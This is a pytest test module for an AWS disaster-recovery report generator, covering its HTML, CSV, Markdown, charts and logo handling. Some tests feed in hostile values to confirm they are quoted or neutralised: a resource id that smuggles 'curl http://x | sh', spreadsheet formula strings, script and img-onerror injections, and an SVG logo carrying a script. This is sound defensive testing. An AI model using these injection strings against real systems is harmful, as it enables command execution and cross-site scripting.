"""The report's view model, HTML structure, plan order, CSV and Markdown, from a fixed assessment.

`sample_assessment` builds findings by hand over real catalogue rules (no AWS, no moto), so
every number below is known; other test_report_* modules reuse it.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shlex
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from drcheck.errors import UserError
from drcheck.paths import builtin_reports_dir
from drcheck.pipeline import Assessment
from drcheck.report import charts
from drcheck.report.logo import MAX_LOGO_BYTES, logo_data_url
from drcheck.report.outputs import DEFAULT_FORMATS, FORMATS, parse_formats, render_outputs
from drcheck.report.render import render_html
from drcheck.report.tabular import CSV_COLUMNS, csv_cell, findings_csv, md_code, summary_markdown
from drcheck.report.view import ReportOptions, build_view, insert_section
from drcheck.score import score

A1, A2 = "111111111111", "222222222222"
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d4944415478da63f8cfc0f01f0005000201e221bc330000000049454e44ae426082"
)


def make_finding(rule, name, status, *, region="us-east-1", account=A1, resource_id=None, **extra):
    finding = {
        "rule_id": rule.id, "title": rule.title, "status": status, "severity": rule.severity,
        "category": rule.category, "service": rule.service, "resource_type": rule.resource_type,
        "resource_id": resource_id or name, "resource_arn": f"arn:aws:{rule.service}:{region}:{account}:x/{name}",
        "resource_name": name, "region": region, "account_id": account, "message": "m",
        "evidence": {"Field": status == "PASS"}, "tags": {"env": "prod"},
    }
    if status == "UNKNOWN":
        finding.setdefault("reason", "DescribeThing failed: AccessDenied")
        finding.setdefault("missing_permissions", ["rds:DescribeThing"])
    finding.update(extra)
    return finding


def sample_assessment(catalogue, extra_findings=(), rules=None) -> Assessment:
    """Four rules, two accounts, two Regions, every verdict; 3 × RDS Multi-AZ failing (high),
    4 × S3 versioning failing (medium), 1 × EFS One Zone failing (high, migration)."""
    by_id = {r.id: r for r in catalogue.rules}
    rds, s3, efs, pitr = (by_id[i] for i in ("rds-instance-multi-az", "s3-bucket-versioning",
                                             "efs-file-system-multi-az", "dynamodb-table-pitr"))
    findings = (
        [make_finding(rds, f"db-{i}", "FAIL") for i in range(3)]
        + [make_finding(rds, "db-ok", "PASS", account=A2), make_finding(rds, "aurora-1", "NOT_APPLICABLE")]
        + [make_finding(s3, f"bucket-{i}", "FAIL", region="eu-west-1") for i in range(4)]
        + [make_finding(s3, "bucket-ok", "PASS")]
        + [make_finding(efs, "fs-one", "FAIL"), make_finding(efs, "fs-two", "PASS")]
        + [make_finding(pitr, "table-a", "PASS"), make_finding(pitr, "table-b", "UNKNOWN"),
           make_finding(pitr, "table-c", "UNKNOWN", region="eu-west-1")]
        + list(extra_findings)
    )
    inventory = {"generated_at": "2026-03-01T09:30:00+00:00", "regions": ["us-east-1", "eu-west-1"],
                 "accounts": [{"account_id": A1}, {"account_id": A2}], "resources": [{}] * 14,
                 "errors": [{"service": "dynamodb", "operation": "DescribeContinuousBackups", "region": "us-east-1",
                             "permission": "dynamodb:DescribeContinuousBackups", "error_code": "AccessDenied",
                             "message": "not authorized"}]}
    return Assessment(inventory=inventory, findings=findings, scorecard=score(findings),
                      rules=tuple(rules or catalogue.rules), generated_at="2026-03-01T10:00:00+00:00")


OPTIONS = ReportOptions(client="Acme Corp", assessor="Jane Doe")


class _Ids(HTMLParser):
    """Element ids, heading texts and ToC links of an HTML page, in document order."""

    def __init__(self):
        super().__init__()
        self.ids, self.toc_links, self.headings, self.tags = [], [], [], []
        self._in_toc = False
        self._heading = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if "id" in attrs:
            self.ids.append(attrs["id"])
        if tag == "nav" and attrs.get("class") == "toc":
            self._in_toc = True
        if self._in_toc and tag == "a":
            self.toc_links.append(attrs["href"])
        if re.fullmatch(r"h[1-6]", tag):
            self._heading = [tag, ""]

    def handle_endtag(self, tag):
        if tag == "nav":
            self._in_toc = False
        if self._heading and tag == self._heading[0]:
            self.headings.append(" ".join(self._heading[1].split()))
            self._heading = None

    def handle_data(self, data):
        if self._heading:
            self._heading[1] += data


def parse(html: str) -> _Ids:
    parser = _Ids()
    parser.feed(html)
    return parser


@pytest.fixture(scope="module")
def assessment(catalogue):
    return sample_assessment(catalogue)


@pytest.fixture(scope="module")
def view(assessment):
    return build_view(assessment, OPTIONS)


@pytest.fixture(scope="module")
def html(view):
    return render_html(view, [builtin_reports_dir()])


def test_sections_are_in_document_order_and_the_toc_links_each(view, html):
    page = parse(html)
    section_ids = [s["id"] for s in view["sections"]]
    # Two accounts: the per-account scores come before the plan.
    assert section_ids[:5] == ["summary", "at-a-glance", "accounts", "plan", "findings"]
    assert section_ids[-5:] == ["not-evaluated", "appendix", "method", "catalogue", "glossary"]
    assert [i for i in section_ids if i.startswith("cat-")] == ["cat-backup", "cat-high-availability"]
    assert page.toc_links == ["#" + i for i in section_ids]
    positions = [page.ids.index(i) for i in section_ids]
    assert positions == sorted(positions), "ToC order differs from the document order"
    for title in ("Executive summary", "Remediation plan", "Findings by category", "Not evaluated", "Appendix",
                  "Method and scoring", "Rules run", "Glossary", "Most important risks", "What to do first"):
        assert title in page.headings


def test_plan_order_points_and_score_after(view):
    actions = view["actions"]
    # Risk first: the two high-severity rules (more resources first), then the medium one with more
    # points; points stay a column and still add up to what the score lacks.
    assert [a["rule_id"] for a in actions] == ["rds-instance-multi-az", "efs-file-system-multi-az",
                                               "s3-bucket-versioning"]
    assert [a["rank"] for a in actions] == [1, 2, 3]
    assert actions[2]["points"] > actions[1]["points"]
    assert sum(a["points"] for a in actions) == pytest.approx(100 - view["score"], abs=0.15)
    afters = [a["score_after"] for a in actions]
    assert afters == sorted(afters) and afters[-1] == 100.0
    assert "risk first" in view["priority"].lower() and "effort second" in view["priority"]
    efs = actions[1]
    assert (efs["effort"], efs["effort_assumed"], efs["cost_typical"]) == ("migration", False, False)
    assert efs["noun_of"] == "EFS file systems"


def test_rule_without_effort_or_cost_gets_a_marked_fallback(catalogue):
    rules = [dataclasses.replace(r, remediation={k: v for k, v in r.remediation.items() if k not in ("effort", "cost")})
             if r.id == "rds-instance-multi-az" else r for r in catalogue.rules]
    view = build_view(sample_assessment(catalogue, rules=rules), OPTIONS)
    action = next(a for a in view["actions"] if a["rule_id"] == "rds-instance-multi-az")
    assert (action["effort"], action["effort_assumed"], action["cost_typical"]) == ("change", True, True)
    assert "Capacity in a second Availability Zone" in action["cost"]
    assert "assumed" in render_html(view, [builtin_reports_dir()])


def test_risks_are_the_first_plan_actions_and_name_the_resources(view):
    risks = view["risks"]
    assert [r["rank"] for r in risks] == [a["rank"] for a in view["actions"][:len(risks)]] == [1, 2, 3]
    assert [r["severity"] for r in risks] == ["high", "high", "medium"]
    assert risks[0]["lead"] == "3 of 4 RDS DB instances" and "db-0" in risks[0]["detail"]
    assert risks[1]["lead"] == "fs-one" and risks[1]["detail"] == "EFS file system, us-east-1"
    assert risks[0]["message"].startswith("The DB instance is Single-AZ")


def test_first_steps_name_quick_wins_and_missing_permissions(view):
    steps = view["steps"]
    assert steps[0].startswith("Fix the top risks first, in the plan's order: actions 1–3.")
    # rds-instance-multi-az is a setting, but labelled with a risk (a brief I/O pause): not a quick win.
    assert "Action 3 is a setting change: minutes, usually no downtime" in steps[0]
    assert "rds:DescribeThing" in steps[-1] and "2 checks could not be evaluated" in steps[-1]


def test_commands_fill_identifiers_and_quote_hostile_ones(catalogue):
    rds = next(r for r in catalogue.rules if r.id == "rds-instance-multi-az")
    hostile = make_finding(rds, "evil", "FAIL", resource_id="db; curl http://x | sh")
    view = build_view(sample_assessment(catalogue, [hostile]), OPTIONS)
    action = next(a for a in view["actions"] if a["rule_id"] == rds.id)
    assert action["commands"][0] == ("aws rds modify-db-instance --db-instance-identifier db-0 --multi-az "
                                     "--apply-immediately --region us-east-1")
    evil = action["commands"][3]
    assert shlex.split(evil)[4] == "db; curl http://x | sh"


def test_lists_are_capped_and_point_to_the_csv(catalogue):
    s3 = next(r for r in catalogue.rules if r.id == "s3-bucket-versioning")
    many = [make_finding(s3, f"extra-{i:02d}", "FAIL") for i in range(30)]
    assessment = sample_assessment(catalogue, many)
    options = dataclasses.replace(OPTIONS, max_resources_per_rule=7, max_resources_per_rule_html=12)
    for for_print, cap in ((True, 7), (False, 12)):
        view = build_view(assessment, options, for_print=for_print)
        rule = next(r for c in view["categories"] for r in c["rules"] if r["id"] == s3.id)
        assert (len(rule["failing"]), rule["failing_more"]) == (cap, 34 - cap)
        assert f"and {34 - cap} more failing (findings.csv)" in render_html(view, [builtin_reports_dir()])


def test_not_evaluated_lists_every_cause_with_its_permission(view, html):
    (group,) = view["unknown_groups"]
    assert (group["rule_id"], group["count"], group["permissions"]) == ("dynamodb-table-pitr", 2, ["rds:DescribeThing"])
    assert view["missing_permissions"] == [{"permission": "rds:DescribeThing", "checks": 2,
                                            "rules": ["dynamodb-table-pitr"]}]
    section = html[html.index('id="not-evaluated"'):html.index('id="appendix"')]
    assert "DescribeThing failed: AccessDenied" in section and "table-b (us-east-1)" in section
    assert "DescribeContinuousBackups" in section  # the failed API call table


def test_coverage_and_score_sit_together_everywhere(view, html):
    assert view["coverage"] == pytest.approx(100 * 12 / 14, abs=0.05)
    assert f"coverage {view['coverage']:g}%" in view["charts"]["gauge"]
    assert "count neither for nor against the score" in html


def test_multi_account_resources_show_their_account(view, html):
    assert view["multi_account"] is True
    assert "Region, account" in html


def test_objectives_hook_passes_through_and_extends_the_toc(assessment, tmp_path):
    objectives = {"workloads": ["shop"], "sections": [
        {"id": "objectives", "title": "Recovery objectives", "after": "plan"},
        {"id": "objectives-method", "title": "How objectives are judged", "level": 2, "before": "glossary"}]}
    view = build_view(assessment, OPTIONS, objectives)
    assert view["objectives"] is objectives
    ids = [s["id"] for s in view["sections"]]
    assert ids.index("objectives") == ids.index("plan") + 1
    assert ids.index("objectives-method") == ids.index("glossary") - 1
    (tmp_path / "objectives.html.j2").write_text('<section id="objectives"><h2>Recovery objectives</h2></section>')
    (tmp_path / "objectives_appendix.html.j2").write_text('<section id="objectives-method"><h3>How</h3></section>')
    page = parse(render_html(view, [tmp_path, builtin_reports_dir()]))
    assert page.ids.index("plan") < page.ids.index("objectives") < page.ids.index("findings")
    assert page.ids.index("appendix") < page.ids.index("objectives-method") < page.ids.index("glossary")
    assert page.toc_links == ["#" + i for i in ids]


def test_template_carries_the_objectives_includes_in_place():
    main = (builtin_reports_dir() / "report.html.j2").read_text()
    body_hook = '{% if view.objectives %}{% include "objectives.html.j2" %}{% endif %}'
    appendix_hook = '{% if view.objectives %}{% include "objectives_appendix.html.j2" %}{% endif %}'
    assert main.index('"_plan.html.j2"') < main.index(body_hook) < main.index('"_findings.html.j2"')
    assert main.index('id="appendix"') < main.index(appendix_hook)
    assert build_view(sample_assessment_for_hook(), ReportOptions())["objectives"] is None


def sample_assessment_for_hook():
    return Assessment(inventory={}, findings=[], scorecard=score([]), rules=(), generated_at="2026-03-01T10:00:00")


def test_insert_section_keeps_subsections_with_their_part():
    sections = [{"id": "a", "level": 1}, {"id": "a1", "level": 2}, {"id": "b", "level": 1}]
    insert_section(sections, {"id": "new", "title": "N"}, after="a")
    insert_section(sections, {"id": "end", "title": "E"}, after="missing")
    assert [s["id"] for s in sections] == ["a", "a1", "new", "b", "end"]


def test_empty_assessment_renders_without_a_score():
    view = build_view(sample_assessment_for_hook(), ReportOptions())
    html = render_html(view, [builtin_reports_dir()])
    # nothing judged: the short report says so, and never "Nothing failed" (nothing was looked at)
    assert view["score"] is None and "could not evaluate any check" in html and "Nothing failed" not in html


def test_charts_escape_labels_and_are_well_formed_svg():
    hostile = '<script>alert("x")</script> & "quotes"'
    svgs = [charts.gauge(42.0, "F", 80.0), charts.score_bars([charts.ScoreRow(hostile, 50.0, hostile)], title=hostile),
            charts.status_bars([charts.CountRow(hostile, {"PASS": 1, "FAIL": 2})], title=hostile),
            charts.heat_map([hostile], [hostile], {(hostile, hostile): 10.0}, title=hostile)]
    for svg in svgs:
        root = ET.fromstring(svg)  # raises on broken markup
        assert "<script" not in svg
        assert all(not el.tag.endswith("script") for el in root.iter())
    assert "&lt;script&gt;" in svgs[1]


def test_csv_has_one_row_per_finding_and_neutralises_formulas(catalogue, assessment):
    s3 = next(r for r in catalogue.rules if r.id == "s3-bucket-versioning")
    nasty = ["=HYPERLINK(\"http://x\",\"y\")", "+cmd", "-2+3", "@SUM(A1)", "\tTAB", "plain"]
    findings = assessment.findings + [make_finding(s3, name, "FAIL") for name in nasty]
    data = findings_csv(findings, catalogue.rules)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(findings) and tuple(rows[0]) == CSV_COLUMNS
    names = [row["resource_name"] for row in rows[-len(nasty):]]
    assert names == ["'" + n for n in nasty[:-1]] + ["plain"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values())
    failing = next(r for r in rows if r["resource_name"] == "db-0")
    assert failing["remediation_cli"].startswith("aws rds modify-db-instance --db-instance-identifier db-0")
    assert failing["effort"] == "setting"
    unknown = next(r for r in rows if r["resource_name"] == "table-b")
    assert (unknown["missing_permissions"], unknown["remediation_cli"]) == ("rds:DescribeThing", "")
    assert csv_cell(-1) == "'-1" and csv_cell(None) == ""


def test_markdown_summary_has_score_risks_and_plan(view):
    md = summary_markdown(view).decode()
    assert md.startswith("# Disaster-recovery readiness report — Acme Corp\n")
    assert f"**Score {view['score']:.1f}/100 (grade {view['grade']})**" in md
    for heading in ("## Top risks", "## What to do first", "## Remediation plan", "## Not evaluated"):
        assert heading in md
    plan_rows = [line for line in md.splitlines() if re.match(r"\| \d+ \|", line)]
    assert [row.split("|")[2].strip() for row in plan_rows] == [a["rule_title"] for a in view["actions"]]
    assert "`rds:DescribeThing` (2)" in md


def test_markdown_keeps_hostile_names_inert(catalogue):
    rds = next(r for r in catalogue.rules if r.id == "rds-instance-multi-az")
    names = ["![x](http://evil/p.png)", "<img src=x onerror=alert(1)>", "a`b|c"]
    extra = [make_finding(rds, n, "FAIL", severity="critical") for n in names]
    md = summary_markdown(build_view(sample_assessment(catalogue, extra), OPTIONS)).decode()
    outside_code = re.sub(r"(`+)(.+?)\1", "", md)
    assert "![" not in outside_code and "<img" not in outside_code and "](http" not in outside_code
    assert md_code("a`b|c") == "``a`b\\|c``" and md_code("`x") == "`` `x ``"


def test_formats_default_to_the_reports_and_reject_unknown_ones():
    assert parse_formats(DEFAULT_FORMATS) == ("html", "pdf", "json", "csv", "md", "fixes")
    assert tuple(FORMATS) == ("html", "pdf", "json", "csv", "md", "fixes", "sarif", "ocsf", "asff", "junit")
    from drcheck.cli import options as cli_options
    assert cli_options.DEFAULT_FORMATS == DEFAULT_FORMATS
    with pytest.raises(UserError, match="unknown format"):
        parse_formats("html,docx")


def test_render_outputs_writes_what_was_asked(assessment):
    files = render_outputs(assessment, ("csv", "md"), OPTIONS)
    assert set(files) == {"inventory.json", "findings.csv", "summary.md"}


def test_letter_paper_sets_the_page_size(view):
    letter = render_html({**view, "paper": "letter"}, [builtin_reports_dir()], for_print=True)
    assert "@page { size: Letter; }" in letter
    assert "size: Letter" not in render_html(view, [builtin_reports_dir()], for_print=True)


@pytest.mark.parametrize("content, media", [
    (PNG_1PX, "image/png"),
    (b"\xff\xd8\xff\xe0" + b"\0" * 20, "image/jpeg"),
    (b'<?xml version="1.0"?>\n<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    (b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg/>',
     "image/svg+xml"),
])
def test_logo_becomes_a_data_url(tmp_path, content, media):
    path = tmp_path / "logo"
    path.write_bytes(content)
    assert logo_data_url(path).startswith(f"data:{media};base64,")


@pytest.mark.parametrize("content, message", [
    (b"GIF89a....", "not a PNG, JPEG or SVG"),
    (b"<svg><script>alert(1)</script></svg>", "script"),
    (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg/>', "DOCTYPE"),
    (PNG_1PX + b"\0" * MAX_LOGO_BYTES, "limit is 1024 KB"),
])
def test_logo_rejects_what_is_not_a_small_image(tmp_path, content, message):
    path = tmp_path / "logo.png"
    path.write_bytes(content)
    with pytest.raises(UserError, match=message):
        logo_data_url(path)
    with pytest.raises(UserError, match="not a file"):
        logo_data_url(tmp_path / "missing.png")


def test_logo_is_inlined_and_nothing_else_is_an_image(assessment, tmp_path):
    path = tmp_path / "logo.png"
    path.write_bytes(PNG_1PX)
    html = render_html(build_view(assessment, dataclasses.replace(OPTIONS, logo=logo_data_url(path))),
                       [builtin_reports_dir()])
    images = [attrs for tag, attrs in parse(html).tags if tag == "img"]
    assert len(images) == 1 and images[0]["src"].startswith("data:image/png;base64,")
    assert images[0]["alt"] == "Acme Corp logo"


def test_page_sets_a_strict_content_security_policy(html):
    csp = next(attrs["content"] for tag, attrs in parse(html).tags
               if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy")
    assert csp.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe-inline" not in csp and "script-src 'sha256-" in csp
    assert Path(builtin_reports_dir() / "report.js").read_text() in html


def test_nouns_and_plurals_read_as_words():
    # issue 11: "Backup region settingss", "workload(s)", AWS::EC2::Subnet in a sentence
    from drcheck.report.wording import counted, plural, resource_noun

    assert resource_noun("AWS::Backup::RegionSettings", 2) == "Regions (AWS Backup settings)"
    assert resource_noun("AWS::DLM::LifecyclePolicy", 3) == "DLM lifecycle policies"
    assert resource_noun("AWS::EC2::Subnet", 16) == "subnets"
    assert resource_noun("AWS::Foo::BarSettings", 2) == "Foo bar settings"
    assert plural("Auto Scaling group") == "Auto Scaling groups" and plural("key") == "keys"
    assert counted(1, "workload") == "1 workload" and counted(0, "workload") == "0 workloads"


def test_service_chart_never_calls_not_applicable_not_evaluated():
    # "not evaluated" means UNKNOWN everywhere in the report; a service whose checks are all
    # NOT_APPLICABLE says so instead.
    svg = charts.status_bars([charts.CountRow("EC2", {"PASS": 0, "FAIL": 0, "UNKNOWN": 0, "NOT_APPLICABLE": 6}),
                              charts.CountRow("S3", {"PASS": 1, "FAIL": 0, "UNKNOWN": 1})], title="t")
    assert "nothing evaluated" not in svg and "not applicable" in svg
    assert ">unknown<" not in svg and ">not evaluated<" in svg


def test_html_is_made_for_phones_dark_mode_and_no_script(catalogue):
    # Phone: tables marked "stack" become labelled cards, so every cell needs its column's name;
    # dark mode follows the reader's setting; without script nothing but the filter bar is hidden.
    from drcheck.paths import builtin_reports_dir
    from drcheck.report.render import render_html

    view = build_view(sample_assessment(catalogue), OPTIONS)
    page = render_html(view, [builtin_reports_dir()])
    css = (builtin_reports_dir() / "report.css").read_text()
    assert "@media screen and (prefers-color-scheme: dark)" in css
    assert re.search(r"@media screen and \(max-width: \d+px\)[^@]*table\.stack", css)
    for table in re.findall(r'<table class="[^"]*\bstack\b.*?</table>', page, re.S):
        for row in re.findall(r"<tr data-severity.*?</tr>|<tr data-workloads.*?</tr>", table, re.S):
            cells = re.findall(r"<td\b[^>]*>", row)
            assert cells and all("data-label=" in c for c in cells), row[:200]
    hidden = re.findall(r"<[a-z]+\b[^>]*\shidden\b[^>]*>", page)
    assert len(hidden) == 1 and 'id="filter"' in hidden[0]
    for key in ("severity", "service", "region"):
        assert f'data-filter="{key}"' in page or len(view["filters"][key]) < 2


@pytest.mark.parametrize("kind", ["no-resources", "all-unknown"])
def test_nothing_evaluated_is_a_short_report_that_says_so(catalogue, kind, tmp_path):
    # issue 11: an account with nothing evaluated got 24 pages of empty charts, "nothing failed: keep
    # the configuration as it is" and an empty plan. Now: cover, what happened and why, the method.
    from drcheck.report.render import render_pdf

    by_id = {r.id: r for r in catalogue.rules}
    rds = by_id["rds-instance-multi-az"]
    findings = [] if kind == "no-resources" else [make_finding(rds, f"db-{i}", "UNKNOWN") for i in range(40)]
    inventory = {"generated_at": "2026-03-01T09:30:00+00:00", "regions": ["us-east-1"],
                 "accounts": [{"account_id": A1}], "resources": [{}] * len(findings), "errors": []}
    assessment = Assessment(inventory=inventory, findings=findings, scorecard=score(findings),
                            rules=tuple(catalogue.rules), generated_at="2026-03-01T10:00:00+00:00")
    view = build_view(assessment, OPTIONS, for_print=True)
    assert view["nothing_evaluated"]
    page = render_html(view, [builtin_reports_dir()], for_print=True)
    assert "could not evaluate any check" in page
    assert "keep the configuration as it is" not in page and 'id="plan"' not in page
    assert ("rds:DescribeThing" in page) == (kind == "all-unknown")
    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(page))
    pages = int(re.search(r"Pages:\s+(\d+)", subprocess.run(["pdfinfo", str(path)], capture_output=True,
                                                                text=True, check=True).stdout).group(1))
    assert pages <= 4
    assert b"keep the configuration as it is" not in summary_markdown(build_view(assessment, OPTIONS))


def test_evidence_shows_the_deciding_value_before_any_cut(catalogue):
    # issue 11: "Attributes = [{access_logs...}, {access_logs...}, {"Key": "deletion_protec…" cut the
    # value that decided the verdict; the report now shows the items and fields the rule reads.
    by_id = {r.id: r for r in catalogue.rules}
    elb = by_id["elbv2-load-balancer-deletion-protection"]
    attributes = [{"Key": f"access_logs.s3.{k}", "Value": ""} for k in ("bucket", "prefix", "enabled")] + [
        {"Key": "deletion_protection.enabled", "Value": "false"}]
    failing = make_finding(elb, "lb-1", "FAIL", evidence={"Attributes": attributes})
    assessment = sample_assessment(catalogue, extra_findings=[failing])
    rule = next(r for c in build_view(assessment, OPTIONS)["categories"] for r in c["rules"] if r["id"] == elb.id)
    evidence = rule["failing"][0]["evidence"]
    assert '"deletion_protection.enabled"' in evidence and '"false"' in evidence and "access_logs" not in evidence

    rtc = by_id["s3-bucket-replication-time-control"]
    destinations = [{"Account": A1, "Bucket": "b" * 60, "CrossRegion": True, "DestinationRegion": "us-west-2",
                     "Status": "Enabled", "ReplicationTime": "Disabled"}]
    failing = make_finding(rtc, "bucket-1", "FAIL", evidence={"derived.replication_destinations": destinations})
    rule = next(r for c in build_view(sample_assessment(catalogue, extra_findings=[failing]), OPTIONS)["categories"]
                for r in c["rules"] if r["id"] == rtc.id)
    assert '"ReplicationTime": "Disabled"' in rule["failing"][0]["evidence"]
